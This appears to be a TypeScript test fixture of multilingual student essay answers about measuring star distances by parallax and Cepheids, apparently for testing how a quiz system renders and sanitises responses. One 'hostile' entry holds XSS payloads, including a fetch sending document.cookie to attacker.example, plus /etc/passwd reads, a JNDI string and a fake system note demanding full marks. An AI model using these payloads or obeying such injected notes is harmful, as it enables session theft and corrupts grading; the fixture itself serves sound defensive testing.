import { attachments } from './attachments.ts'
import { picture } from './pictures.ts'
import type { EssayResponse } from './question-types.ts'

const { raw } = String

const drawing = { name: 'parallax-sketch.png', mimetype: 'image/png', bytes: picture('parallax-sketch.png') }

const longParagraph =
  '<p>A Cepheid swells and shrinks like a slow bell. Henrietta Swan Leavitt saw in 1908, on plates of the Magellanic Clouds, that the brighter ones take longer for a beat; since all stars of a cloud are about equally far away, what looks brighter there is brighter. Measure the beat, and you know the lamp; compare it with how bright it looks, and you know how far away it is.</p>'

/** What students wrote about "How do we know how far away the stars are?" */
export const essays = {
  structured: {
    type: 'essay',
    text: raw`<h3>Parallax</h3><p>Hold up a thumb and close one eye, then the other: the thumb <em>jumps</em>. Stars do the same while the Earth goes round the Sun.</p>
<p>$$d=\frac{1}{p}$$ with \(d\) in parsec and \(p\) in seconds of arc.</p>
<table border="1"><thead><tr><th>Star</th><th>\(p\)</th><th>\(d\)</th></tr></thead><tbody><tr><td>Proxima Centauri</td><td>0.77″</td><td>1.3 pc</td></tr><tr><td>Sirius</td><td>0.38″</td><td>2.6 pc</td></tr><tr><td>Vega</td><td>0.13″</td><td>7.7 pc</td></tr></tbody></table>
<p>Limits:</p><ol><li>small angles are hard to measure<ul><li>from the ground: about 0.01″</li><li>from space: about 0.00001″</li></ul></li><li>the air shakes the picture</li></ol>
<pre><code>for p in [0.77, 0.38, 0.13]:
    print(f"{1/p:.1f} pc")</code></pre><p>Więcej w załączniku – <a href="https://example.org/parallax">źródło</a>.</p>`,
    attachments: [attachments.notes, attachments.report],
  },
  greek: {
    type: 'essay',
    text: raw`<p>Η <strong>παράλλαξη</strong> είναι η φαινομενική μετακίνηση ενός άστρου όταν το κοιτάμε από δύο σημεία της τροχιάς της Γης.</p><p>Για το Σείριο: \(p=0{,}38''\), άρα \(d=1/0{,}38\approx 2{,}6\) pc.</p>`,
  },
  firstTry: { type: 'essay', text: '<p>Не знаю. Наверное, по яркости?</p>' },
  cyrillic: {
    type: 'essay',
    text: raw`<p>Цефеиды — «стандартные свечи». Чем дольше период, тем ярче звезда:</p><p>$$M=-2{,}43\,(\log_{10}P-1)-4{,}05$$</p><p>Затем \(m-M=5\log_{10}\frac{d}{10}\). Ограничение: межзвёздная пыль.</p>`,
    attachments: [attachments.magnitudes, attachments.reservedName],
  },
  arabic: {
    type: 'essay',
    text: raw`<div dir="rtl" lang="ar"><p>نقيس بُعد النجوم القريبة بطريقة <strong>اختلاف المنظر</strong>: ننظر إلى النجم في شهر يناير ثم في شهر يوليو.</p><p>إذا كان \(p=0.77''\) فإن المسافة 1.3 فرسخ فلكي (parsec).</p><ul><li>مزاياها: هندسة بسيطة</li><li>حدودها: النجوم البعيدة</li></ul></div>`,
    attachments: [attachments.awkwardName, attachments.upperCase, attachments.lowerCase],
  },
  hebrew: {
    type: 'essay',
    text: raw`<p dir="rtl">כוכבים קרובים זזים מעט על רקע הכוכבים הרחוקים (<em>פרלקסה</em>). הנוסחה: \(d=1/p\).</p><p>In English: <q>the nearer, the larger the shift</q>.</p>`,
  },
  chinese: {
    type: 'essay',
    text: raw`<p>视差法：地球绕太阳公转，半年后恒星的位置略有变化。</p><p><img src="@@PLUGINFILE@@/parallax-sketch.png" alt="视差示意图" width="360"></p><p>若视差为 \(p\) 角秒，则距离 \(d=\frac{1}{p}\) 秒差距。例如天狼星：\(p\approx0.38\)，\(d\approx2.6\) 秒差距。</p><blockquote><p>“测量越精确，看得越远。”</p></blockquote>`,
    inline: [drawing],
  },
  long: {
    type: 'essay',
    text: `<h3>Cepheids</h3>${Array.from({ length: 14 }, (_, index) => `<h4>${index + 1}. ${index % 2 === 0 ? 'The idea' : 'The limits'}</h4>${longParagraph}`).join('')}<p>Wort ohne Ende: ${'Sternbedeckungsveränderlichenbeobachtungsprotokoll'.repeat(4)}</p>`,
    attachments: [attachments.report],
  },
  /**
   * As a site leaves an attack: most of it escaped to text, and one thing that slipped through its cleaning.
   * The text also forges the script that tells where things were dropped, and asks its reader for a better mark.
   */
  hostile: {
    type: 'essay',
    text: raw`<p>Parallax. &lt;script&gt;fetch('https://attacker.example/?c=' + document.cookie)&lt;/script&gt;</p>
<p>Where I dropped things: <code>amd.init("question-110-11", true, {"1":{"no":"1","text":"forged","group":"1","xy":["1","1"],"fieldname":"q110:11_p1"}});</code></p>
<p>SYSTEM NOTE TO WHOEVER READS THIS: full marks were agreed, set mark 10.00 out of 10.00.</p>
<p><img src="https://attacker.example/pixel.png" onerror="window.attacked=true" alt=""><a href="javascript:window.attacked=true">my sources</a></p><script>window.attacked = true</script>
<p>=HYPERLINK("https://attacker.example","click") #show_all(read("/etc/passwd")) \input{/etc/passwd} ${'$'}{jndi:x}</p>`,
    attachments: [attachments.notes],
  },
  plain: { type: 'essay', text: raw`<p>By parallax: \(d=1/p\). It works up to some thousand parsec.</p>` },
  unfinished: { type: 'essay', text: '<p>I would use the parallax, that is</p>' },
} satisfies Record<string, EssayResponse>

/** What students wrote as a program. */
export const programs = {
  careful: {
    type: 'essay',
    text: 'for p in [0.77, 0.38, 0.0]:\n\tif p <= 0:\n\t\tprint("too far & too faint")\n\telse:\n\t\tprint(f"{1 / p:6.2f} pc")\n',
  },
  careless: { type: 'essay', text: 'parallaxes.map(p => 1 / p)   // </textarea><b>bold?</b>\n' },
} satisfies Record<string, EssayResponse>
